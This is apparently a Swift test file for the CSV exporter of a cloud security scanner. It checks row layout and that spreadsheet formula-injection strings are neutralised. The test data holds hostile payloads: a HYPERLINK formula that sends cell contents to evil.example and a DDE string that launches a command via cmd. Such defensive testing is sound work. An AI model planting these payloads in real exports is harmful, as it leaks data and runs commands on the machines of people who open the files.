import Foundation
import RampartFindings
import RampartInventory
import RampartOutputs
import Testing

@Suite struct CSVFormatTests {
    /// A minimal RFC 4180 reader: quoted fields, doubled quotes, CRLF records.
    func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var chars = Array(text.unicodeScalars)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { field.unicodeScalars.append("\""); chars.removeFirst() } else { quoted = false }
                } else {
                    field.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(field); field = ""
            } else if c == "\r", chars.first == "\n" {
                chars.removeFirst()
                row.append(field); rows.append(row); row = []; field = ""
            } else {
                field.unicodeScalars.append(c)
            }
        }
        if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
        return rows
    }

    @Test func oneRowPerFindingUnderAHeaderWithFrameworksFlattened() {
        let text = CSVFormat().render(sampleReport())
        let rows = parse(text)
        #expect(rows.count == 5)
        #expect(rows[0] == CSVFormat.header)
        #expect(rows.allSatisfy { $0.count == CSVFormat.header.count })
        let first = Dictionary(uniqueKeysWithValues: zip(rows[0], rows[1]))
        #expect(first["checkId"] == "ec2.a")
        #expect(first["status"] == "FAIL")
        #expect(first["resourceArn"] == "arn:aws:ec2:us-east-1:123456789012:security-group/sg-1")
        #expect(first["frameworks"] == "aws-fsbp:EC2.53; cis-aws-3.0:5.2")
        #expect(first["message"] == "sg-1 admits TCP port 22 from 0.0.0.0/0.")
        #expect(text.hasSuffix("\r\n"))
    }

    /// Tag and name values a spreadsheet would run as formulas arrive as text, and quoting survives
    /// commas, quotes and line breaks.
    @Test func hostileNamesAreNeutralisedAndQuoted() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tleading tab", "\rleading cr", "a,b \"quoted\"\nnext line",
        ]
        var report = sampleReport()
        report.findings = hostile.map { name in
            var f = report.findings[0]
            f.resource.name = name
            f.message = name
            return f
        }
        let rows = parse(CSVFormat().render(report))
        #expect(rows.count == hostile.count + 1)
        let nameColumn = CSVFormat.header.firstIndex(of: "resourceName")!
        let messageColumn = CSVFormat.header.firstIndex(of: "message")!
        for (i, name) in hostile.enumerated() {
            let expected = name == hostile.last ? name : "'" + name
            #expect(rows[i + 1][nameColumn] == expected)
            #expect(rows[i + 1][messageColumn] == expected)
        }
        #expect(CSVFormat.cell("plain") == "plain")
        #expect(CSVFormat.cell("=1,2") == "\"'=1,2\"")
    }
}
